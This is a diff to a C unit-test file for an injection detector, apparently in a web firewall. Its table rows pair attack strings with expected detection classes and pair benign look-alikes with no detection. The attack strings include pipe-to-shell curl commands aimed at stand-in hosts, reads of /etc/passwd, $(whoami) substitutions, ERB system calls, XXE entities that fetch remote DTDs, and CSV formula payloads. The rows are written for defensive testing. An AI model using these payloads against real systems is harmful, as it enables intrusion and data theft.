@@ -70,6 +70,50 @@ static const struct dcase dcases[] = {
 	{ "-7,5", 0 }, { "if (n > 0 && m < 9) { return true; }", 0 }, { "<pre>if (a &lt; b) { x(); }</pre>", 0 },
 	{ "Traceback:\n  File \"m.py\", line 1", 0 }, { "sudo apt-get update && sudo apt-get install -y jq", 0 },
 	{ "docker run -v $(pwd):/src img", 0 },
+	/* round 10 (issue 16): misses and regressions of the second frozen corpus, own strings */
+	{ "|| sleep 10 ||", B(CMD) }, { "||sleep 7||", B(CMD) }, { "$(printf 'id')", B(CMD) }, { "q$(printf 'whoami')", B(CMD) },
+	{ "/bin/c[a]t /etc/passwd", B(CMD) }, { "x;/usr/b[i]n/i[d]", B(CMD) }, { "@(1+2)", B(CODE) }, { "@(7*7)", B(CODE) },
+	{ "/var/runtime/bootstrap", B(LFI) }, { "1; return true", B(NOSQL) }, { "0;return this.a", B(NOSQL) },
+	{ "{\"$text\": {\"$search\": \"admin\"}}", B(NOSQL) }, { "{\"a\": {\"$type\": \"string\"}}", B(NOSQL) },
+	{ "{\"a\": {\"$type\": 2}}", B(NOSQL) }, { "a,b,=cmd|' /C calc'!A0", B(CSV) }, { "in/=HYPERLINK(\"http://x\",\"y\").csv", B(CSV) },
+	/* $where JavaScript after the quote that ends the string (own rows) */
+	{ "' || 'a'=='a", B(NOSQL) }, { "'||this.isAdmin||'", B(NOSQL) }, { "' ; return db.getCollectionNames() ; '", B(NOSQL) },
+	{ "x' || true || '", B(NOSQL) }, { "true; return true", B(NOSQL) }, { "admin' || '1'=='1", B(NOSQL) },
+	{ "const ok = name === 'x' || name == 'y';", 0 }, { "grep 'foo' || true", 0 }, { "console.log('hi'); return true;", 0 },
+	{ "user == 'admin' || role == 'root'", 0 },
+	/* documentation that starts with assignments or ./configure; a strong program there still fires */
+	{ "VERSION=$(git describe --tags) make release", 0 }, { "Step 2: ./configure && make && sudo make install", 0 },
+	{ "x=$(whoami) ls", B(CMD) }, { "A=1 ls && curl http://x.example/a | sh | sh", B(CMD) },
+	/* what the relaxed rules below must still catch */
+	{ "curl -fsSL https://x.example/i.sh | sh | sh", B(CMD) }, { "curl http://x.example/a -o /tmp/a | sh", B(CMD) },
+	{ "curl http://x.example/a | sh /tmp/a", B(CMD) }, { "ls && curl http://x.example/a | sh", B(CMD) },
+	{ "Run from $(whoami) now", B(CMD) }, { "a $(id) b", B(CMD) }, { "x;$(pwd)", B(CMD) },
+	{ "x' and 1=1-- ", B(SQL) }, { "x' and 1=1 and 'a'='a", B(SQL) }, { "x' AND 1=1 AND ''='", B(SQL) },
+	{ "<!DOCTYPE r PUBLIC \"-//W3C//DTD X//EN\" \"http://www.w3.org.evil.example/x.dtd\"><r/>", B(XXE) },
+	{ "<!DOCTYPE r PUBLIC \"-//W3C//DTD X//EN\" \"http://x.example/x.dtd\"><r/>", B(XXE) },
+	{ "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0//EN\" \"http://www.w3.org/TR/x.dtd\" [<!ENTITY % x SYSTEM \"http://e/\">%x;]>", B(XXE) },
+	{ "<%= ENV.to_h %>", B(CODE) }, { "<%= Dir.pwd %>", B(CODE) }, { "<%= eval params %>", B(CODE) }, { "<%= x.send(:y) %>", B(CODE) },
+	{ "<%= system('id') %>", B(CODE) }, { "<%= `id` %>", B(CODE) }, { "<%= 7*7 %>", B(CODE) }, { "<% require \"open3\" %>", B(CODE) },
+	{ "<iframe src=javascript:alert(1)>", B(XSS) }, { "<iframe srcdoc=\"x\">", B(XSS) }, { "<svg><script>alert(1)</script></svg>", B(XSS) },
+	{ "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>", B(XSS) }, { "<svg onload=alert(1)>", B(XSS) },
+	{ "-2+5", B(CSV) }, { "+A1", B(CSV) },
+	/* round 10's false positives (own strings): documentation, .NET keys, prose, HTML an editor carries */
+	{ "To install, run: curl -fsSL https://get.example.com | bash", 0 }, { "wget -qO- https://x.example/i.sh | sh -s -- -y", 0 },
+	{ "Build it: git clone https://github.com/x/y.git && cd y && make", 0 },
+	{ "Run the script from $(pwd) as described in the README.", 0 }, { "docker run --user $(id -u):$(id -g) img", 0 },
+	{ "{\"$type\": \"MyApp.Models.User, MyApp\", \"$values\": [1]}", 0 }, { "the prose 'and 1=1' here", 0 }, { "'and 1=1'", 0 },
+	{ "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">", 0 },
+	{ "<!DOCTYPE html SYSTEM \"about:legacy-compat\">", 0 }, { "Hello <%= user.name %>", 0 }, { "<%= @post.title %>", 0 },
+	{ "<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" allowfullscreen></iframe>", 0 },
+	{ "<svg width=\"10\" height=\"10\"><circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"red\"/></svg>", 0 },
+	{ "+s3/A/k7wToAOOSsJTLeRU4qYVk=", 0 }, { "pU4iDVxP7WcwperS8QS4ddzzC3rw88fdfT+p/NCv8hHewzOqy9+JbQ==", 0 },
+	{ "Q+zg+zh+vmidqJmvolXjSdzGeNKWqopaTCo0CSU7yFZ+zoq+DZ/Wf55a//sAmEd1", 0 }, { "Step 1; return to the start", 0 },
+	{ "https://medium.com/@john (blog)", 0 }, { "mail me @(work)", 0 },
+	{ "- NOW() - INTERVAL 1 DAY", 0 }, { "-- NOW() - INTERVAL 1 DAY", 0 }, { "+E817+qWi6vh5nPX/oY2G9QnYUlaTQmy", 0 },
+	{ "Users'\n----\nNotes", 0 }, { "+----+------+\n| id | name |\n+----+------+", 0 },
+	/* and what stays caught beside them */
+	{ "-NOW()", B(CSV) }, { "+SUM(1,2)", B(CSV) }, { "+Sheet1!A1*2", B(CSV) }, { "-(1+2)*3", B(CSV) },
+	{ "admin'--\n", B(SQL) }, { "x' --\nOR 1=1--", B(SQL) }, { "a\n| id", B(CMD) }, { "a\n|| id", B(CMD) },
 	/* benign look-alikes */
 	{ "O'Brien", 0 }, { "It's 5 o'clock; or later?", 0 }, { "The union of two sets", 0 }, { "Tom & Jerry", 0 },
 	{ "Please select one and update the list", 0 }, { "Use `ls -la` to list", 0 }, { "<p>Hi <b>there</b></p>", 0 },
@@ -168,10 +212,39 @@ static void inspect_modes_exceptions_limit(void **state)
 	fng_fw_cfg_free(&c);
 }
 
+/* A $type key is judged with its value: a BSON type (an operator that
+ * matches by type) or a JSON.NET class name (data), in the proxy's
+ * inspection; repeated keys are not remembered clean by their name. */
+static void inspect_type_key(void **state)
+{
+	static const struct {
+		const char *ev;
+		size_t want;
+	} t[] = {
+		{ "{\"$type\": \"MyApp.Models.User, MyApp\", \"$values\": [1]}", 0 },
+		{ "{\"a\": {\"$type\": \"System.Collections.Generic.List`1[[System.String]], mscorlib\"}}", 0 },
+		{ "{\"u\": {\"$type\": \"string\"}, \"p\": {\"$type\": 2}}", 2 },
+		{ "{\"x\": {\"$type\": \"A.B, C\"}, \"u\": {\"$type\": \"string\"}}", 1 },
+		{ "{\"u\": {\"$type\": [\"string\", \"int\"]}}", 1 },
+	};
+	(void)state;
+	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
+		struct fng_fw_cfg c;
+		struct seen s = { 0 };
+		size_t nf;
+		fng_fw_cfg_init(&c);
+		fng_fw_inspect(&c, t[i].ev, strlen(t[i].ev), collect, &s, &nf);
+		if (nf != t[i].want)
+			fail_msg("%s: %zu findings, want %zu", t[i].ev, nf, t[i].want);
+		fng_fw_cfg_free(&c);
+	}
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(detector_table),
+		cmocka_unit_test(inspect_type_key),
 		cmocka_unit_test(pair_filter_table),
 		cmocka_unit_test(inspect_modes_exceptions_limit),
 	};
